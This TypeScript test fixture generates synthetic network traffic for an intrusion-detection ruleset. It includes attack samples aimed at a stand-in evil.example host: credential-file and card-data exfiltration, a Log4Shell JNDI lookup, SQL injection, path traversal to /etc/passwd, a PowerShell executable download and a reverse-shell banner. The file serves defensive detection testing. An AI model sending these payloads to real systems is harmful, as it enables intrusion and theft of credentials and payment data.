// Traffic that the rules of rules/realistic.rules are for, all of it made up: what malware, scanners and careless people
// send, and next to it what only looks like it.

import { ping, type Said, segment, tcpTalk, udpTalk } from './talks.js';

const HOME = '10.0.0.5';
const OUTSIDE = '203.0.113.9';
const LISTED = '192.0.2.77';

/** All of it, in order. Each connection has a port of its own. */
export function realisticTraffic(): Uint8Array[] {
  let port = 40_000;
  const out = (server: number, said: readonly Said[]) =>
    tcpTalk(said, { client: [HOME, port++], server: [OUTSIDE, server] });
  const into = (server: number, said: readonly Said[], client = OUTSIDE) =>
    tcpTalk(said, { client: [client, port++], server: [HOME, server] });
  const ask = (server: number, said: readonly Said[]) =>
    udpTalk(said, { client: [HOME, port++], server: [OUTSIDE, server] });
  const hit = (server: number, said: readonly Said[], client = OUTSIDE) =>
    udpTalk(said, { client: [client, port++], server: [HOME, server] });
  return [
    ...WEB_OUT.flatMap((said) => out(80, said)),
    ...WEB_IN.flatMap((said) => into(80, said)),
    ...NAMES.flatMap((said) => ask(53, said)),
    ...[22, 23, 3389, 5900, 22, 23].flatMap((server) => scan(server, port++, 0x02)),
    ...scan(80, port++, 0x01),
    ...scan(80, port++, 0x29),
    ...scan(80, port++, 0, 0),
    ping(''),
    ping('abcdefghijklmnopqrstuvwabcdefghi'),
    ping('x'.repeat(900)),
    ...into(445, [
      ['>', SMB1],
      ['<', 'x'],
    ]),
    ...into(445, [['>', SMB2]]),
    ...out(21, [
      ['<', '220 ready\r\n'],
      ['>', `USER ${'A'.repeat(80)}\r\n`],
      ...Array<Said>(4).fill(['<', '530 Login incorrect.\r\n']),
    ]),
    ...out(25, [
      ['<', '220 a ESMTP\r\n'],
      ['>', 'EHLO b\r\n'],
      ['>', 'MAIL FROM:<x@spam.example>\r\n'],
    ]),
    ...out(22, [
      ['>', 'SSH-2.0-libssh-0.6.3\r\n'],
      ['<', 'SSH-2.0-OpenSSH_9.2\r\n'],
    ]),
    ...out(4444, [['>', 'Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation.\r\n']]),
    ...out(4445, [
      ['>', '\xde\xad\xbe\xef\x0c\x00\x00\x00\x11\x22\x11\x22'],
      ['>', '\xde\xad\xbe\xef\x0d\x00\x00\x00\x11\x22\x11\x22'],
    ]),
    ...out(4446, [['>', '\x0a\x00\x00\x00\x20\x00\x00\x00\x78\x9cabcd']]),
    ...out(4447, [
      ['>', 'KEY:\x03abcdeEND'],
      ['>', 'KEY:\x02abcdEND'],
      ['>', 'DONE'],
    ]),
    ...out(4448, [
      ['>', 'UIHR'],
      ['<', 'NJ'],
    ]),
    ...into(8080, [['>', 'hello']], LISTED),
    ...hit(1900, [['>', 'M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n']]),
    ...hit(123, [
      ['>', '\x17\x00\x02\x2a\x00\x00\x00\x00'],
      ['>', '\x17\x00\x02\x2a\x00\x00\x00\x00'],
    ]),
    ...hit(161, [['>', '\x30\x26\x02\x01\x01\x04\x06public\xa0\x19']]),
  ];
}

function scan(server: number, client: number, flags: number, seq = 1): Uint8Array[] {
  const ends = { client: [OUTSIDE, client], server: [HOME, server] } as const;
  return [segment('>', ends, { flags, seq, window: 1024 })];
}

function request(line: string, headers: readonly string[], body = ''): Said {
  const length = body === '' ? [] : [`Content-Length: ${body.length}`];
  return ['>', [line, ...headers, ...length, '', body].join('\r\n')];
}

function response(status: string, headers: readonly string[], body = ''): Said {
  return ['<', [`HTTP/1.1 ${status}`, ...headers, `Content-Length: ${body.length}`, '', body].join('\r\n')];
}

const HOST = 'Host: www.evil.example';
const OK = response('200 OK', ['Content-Type: text/html'], '<html></html>');
const STUB = 'This program cannot be run in DOS mode';
/** A header whose word at 60 says where the next one is. */
const EXECUTABLE = `MZ${'\x00'.repeat(58)}\x80\x00\x00\x00${STUB}${'\x00'.repeat(128 - 64 - STUB.length)}PE\x00\x00${'\x00'.repeat(80)}`;
const FORM =
  '--x\r\nContent-Disposition: form-data; name="hwid"\r\n\r\nA1\r\n--x\r\nContent-Disposition: form-data; name="f"; filename="Passwords.txt"\r\n\r\npw\r\n--x--\r\n';

const WEB_OUT: readonly (readonly Said[])[] = [
  [request('GET /gate.php?id=77&ver=2.11 HTTP/1.1', [HOST, 'User-Agent: x']), OK],
  [request('GET /gate.php?id=77&ver=2.11 HTTP/1.1', [HOST, 'Referer: http://a/']), OK],
  [request('POST /upload HTTP/1.1', [HOST, 'Content-Type: multipart/form-data; boundary=x'], FORM), OK],
  [
    request(
      'POST /index.php HTTP/1.1',
      [HOST, 'User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)'],
      `id=${'0123456789abcdef'.repeat(2)}&x=1`,
    ),
    OK,
  ],
  [request('GET / HTTP/1.1', [HOST, 'User-Agent: python-requests/2.31']), OK],
  [request('GET /a HTTP/1.1', [HOST, 'User-Agent: python-requests/2.31']), OK],
  [
    request('GET /a.exe HTTP/1.1', [HOST, 'User-Agent: Mozilla/5.0 WindowsPowerShell/5.1']),
    response('200 OK', ['Content-Type: application/octet-stream'], EXECUTABLE),
  ],
  [request('POST /pay HTTP/1.1', [HOST], 'name=a&card=4111%201111&cvv=1'), OK],
  [request('GET / HTTP/1.1', ['Host: 203.0.113.9', 'User-Agent: a', 'Accept: */*']), OK],
  [request('GET / HTTP/1.1', [HOST, `Cookie: SESS=${'Ab1+'.repeat(9)}==`]), OK],
  [request('GET /c HTTP/1.1', [HOST]), response('200 OK', ['Content-Type: text/plain'], 'cmd|dir')],
  [request('GET /run?d=d2hvYW1pIC9hbGw= HTTP/1.1', [HOST]), OK],
  [request('GET / HTTP/1.1', [HOST, 'Authorization: Basic YWRtaW46YWRtaW4=']), OK],
  [request('GET / HTTP/1.0', ['User-Agent: a']), response('404 Not Found', ['Server: nginx/1.22'], 'no')],
  [request('GET /old HTTP/1.1', [HOST]), response('302 Found', ['Location: http://evil.example/a.exe'])],
];

const WEB_IN: readonly (readonly Said[])[] = [
  [request('GET /a.php?id=1%20UNION/**/ALL%20SELECT%201 HTTP/1.1', ['Host: home']), OK],
  [request('GET / HTTP/1.1', ['Host: home', 'X-Api: \x24{jndi:ldap://evil.example/a}']), OK],
  [request('GET /a/../../etc/passwd HTTP/1.1', ['Host: home']), OK],
  ...Array<readonly Said[]>(4).fill([request('GET /b?id=1 HTTP/1.1', ['Host: home', 'User-Agent: sqlmap/1.7']), OK]),
];

function question(name: string, id: number, flags = 0x0100): string {
  const labels = name.split('.').map((label) => String.fromCharCode(label.length) + label);
  return `${word(id)}${word(flags)}${word(1)}${word(0)}${word(0)}${word(0)}${labels.join('')}\x00${word(1)}${word(1)}`;
}

/** With an address, or that there is no such name. */
function answer(name: string, id: number, address?: string): string {
  const [flags, count] = address === undefined ? [0x8183, 0] : [0x8180, 1];
  const head = `${word(id)}${word(flags)}${word(1)}${word(count)}`;
  const record = `\xc0\x0c${word(1)}${word(1)}${word(0)}${word(60)}${word(4)}${address}`;
  return `${head}${question(name, id).slice(8)}${address === undefined ? '' : record}`;
}

function word(value: number): string {
  return String.fromCharCode(value >> 8, value & 255);
}

const TUNNEL = `${'0123456789abcdef'.repeat(3)}.t.example`;

const NAMES: readonly (readonly Said[])[] = [
  [
    ['>', question('www.Bad-Domain.example', 1)],
    ['<', answer('www.Bad-Domain.example', 1, '\xc0\x00\x02\x01')],
  ],
  [
    ['>', question('evil.example', 2)],
    ['<', answer('evil.example', 2)],
  ],
  [
    ['>', question('a.evil.example', 3)],
    ['<', answer('a.evil.example', 3, '\x01\x02\x03\x04')],
  ],
  [['>', question('notevil.example', 4)]],
  ...[5, 6, 7, 8].map((id): readonly Said[] => [['>', question(TUNNEL, id)]]),
  [['>', question('host.dyn1.example', 9)]],
  [['>', question('zone.example', 10, 0x2800)]],
];

const SMB1 = `\x00\x00\x00\x2f\xffSMB\x72${'\x00'.repeat(27)}\x00\x0c\x00\x02NT LM 0.12\x00`;
const SMB2 = `\x00\x00\x00\x60\xfeSMB\x40\x00${'\x00'.repeat(6)}\x03\x00${'\x00'.repeat(50)}I\x00P\x00C\x00$\x00`;
